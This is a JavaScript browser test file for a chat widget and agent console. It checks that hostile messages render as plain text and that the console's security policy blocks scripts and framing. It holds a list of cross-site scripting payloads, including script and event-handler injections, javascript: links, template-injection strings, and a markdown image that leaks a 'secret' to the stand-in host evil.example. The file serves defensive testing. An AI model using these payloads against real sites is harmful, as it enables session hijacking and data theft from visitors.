/**
 * Hostile words on the screen: what a model, an agent, a visitor or an article may have been made to say stays words, in the
 * widget on somebody's page and in the console.
 */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { Agent } from './lib/agent.mjs'
import { Baton } from './lib/baton.mjs'
import { openBrowser, person } from './lib/browser.mjs'
import { Visitor } from './lib/visitor.mjs'

const evil = 'evil.example'
const hostile = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  `<iframe src="https://${evil}/frame"></iframe><svg onload="window.pwned = 3">`,
  `![leak](https://${evil}/image.png?d=secret)`,
  '[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>)',
  `[java](java\tscript:window.pwned=6) [bank](https://bank.example@${evil}/) <a href="javascript:window.pwned=7">x</a>`,
  `<style>@import "https://${evil}/style.css"; body { display: none }</style><base href="https://${evil}/">`,
  `<form action="https://${evil}/"><input name=q></form> <meta http-equiv="refresh" content="0;url=https://${evil}/">`,
  `[fine](https://shop.example/help) {{constructor.constructor('window.pwned=8')()}} \${window.pwned=9}`,
].join('\n')

let baton, browser, visitor, ana

before(async () => {
  baton = await Baton.start()
  browser = await openBrowser()
  const pages = await Promise.all([1, 2].map(() => person(browser)))
  for (const page of pages) {
    page.asked = []
    page.on('request', (request) => page.asked.push(request.url()))
    page.on('dialog', (dialog) => {
      page.problems.push(`a dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
  }
  visitor = new Visitor(pages[0], baton.console)
  ana = new Agent(pages[1], baton, 'ana')
})

after(async () => {
  await browser?.close()
  await baton?.stop()
})

/** What became of the words below an element, open shadow roots included. */
const inspect = (root) => {
  const all = [...root.querySelectorAll('*')]
  return {
    tags: [...new Set(all.map((e) => e.localName))],
    handlers: all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith('on')),
    links: all.filter((e) => e.localName === 'a').map((a) => ({ href: a.href, rel: a.rel, target: a.target })),
    text: root.textContent,
  }
}

function inert({ tags, handlers, links, text }, where) {
  const markup = tags.filter((tag) => !['p', 'br', 'a', 'strong', 'em', 'code', 'ul', 'ol', 'li', 'span', 'div'].includes(tag))
  assert.deepEqual(markup, [], `${where}: elements came of words`)
  assert.deepEqual(handlers, [], where)
  for (const { href, rel, target } of links) {
    assert.match(href, /^https:\/\/(shop\.example|evil\.example)\//, where)
    assert.ok(rel.includes('noopener') && rel.includes('noreferrer') && target === '_blank', `${where}: ${href}`)
  }
  assert.ok(links.some((link) => link.href === 'https://shop.example/help'), `${where}: a good link is one`)
  for (const words of ['<script>window.pwned = 1</script>', 'onerror=', 'javascript:window.pwned=4']) assert.ok(text.includes(words), `${where}: ${words} is shown`)
}

test('hostile words stay words, in the widget and in the console', async () => {
  await ana.signIn()
  await visitor.open(baton.studio)
  await visitor.part('composer').fill(hostile)
  const sent = visitor.page.waitForResponse((r) => r.url().endsWith('/widget/messages') && r.ok())
  await visitor.page.keyboard.press('Enter')
  const { conversation_id: id } = await (await sent).json()
  await ana.api('POST', `/conversations/${id}/take-over`, {})
  const { epoch } = await ana.api('GET', `/conversations/${id}`)
  await ana.api('POST', `/conversations/${id}/messages`, { text: hostile, client_id: 'hostile', expected_epoch: epoch })
  await ana.api('POST', `/conversations/${id}/notes`, { text: hostile, client_id: 'hostile-note' })

  const bubble = visitor.page.locator('baton-widget [data-testid=message][data-author=agent] .bubble')
  await bubble.waitFor()
  inert(await bubble.evaluate(inspect), 'the widget')
  await ana.open(id)
  for (const author of ['agent', 'visitor']) {
    const shown = ana.message(author, 'window.pwned = 1').first()
    await shown.waitFor()
    const found = await shown.evaluate(inspect)
    assert.ok(!found.tags.some((tag) => ['script', 'img', 'iframe', 'style', 'form', 'meta', 'base', 'object'].includes(tag)), `${author}: ${found.tags}`)
    assert.deepEqual(found.handlers, [])
    assert.ok(found.links.every((link) => /^https?:/.test(link.href)), JSON.stringify(found.links))
  }
  for (const [who, page] of [['the visitor', visitor.page], ['Ana', ana.page]]) {
    assert.equal(await page.evaluate(() => window.pwned), undefined, who)
    assert.deepEqual(page.asked.filter((url) => url.includes(evil)), [], `${who}'s browser asked elsewhere`)
    assert.deepEqual(page.problems, [], who)
  }
})

test('nobody frames the console, and its policy lets no script in', async () => {
  const page = (await person(browser))
  const response = await page.goto(baton.console)
  const policy = response.headers()['content-security-policy']
  assert.match(policy, /script-src 'self';/)
  assert.match(policy, /frame-ancestors 'none'/)
  const ran = await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.pwned = 1'
    document.body.append(script)
    return window.pwned
  })
  assert.equal(ran, undefined)
  const shop = await person(browser)
  await shop.goto(baton.shop)
  const framed = await shop.evaluate(async (console_) => {
    const frame = document.createElement('iframe')
    frame.src = console_
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
    document.body.append(frame)
    await loaded
    try {
      return frame.contentDocument !== null || frame.contentWindow.length
    } catch {
      return 'elsewhere'
    }
  }, baton.console)
  const inside = shop.frames().find((frame) => frame.url().startsWith(baton.console))
  assert.equal(await inside?.locator('#app').count().catch(() => 0) ?? 0, 0, `the console was framed: ${framed}`)
})
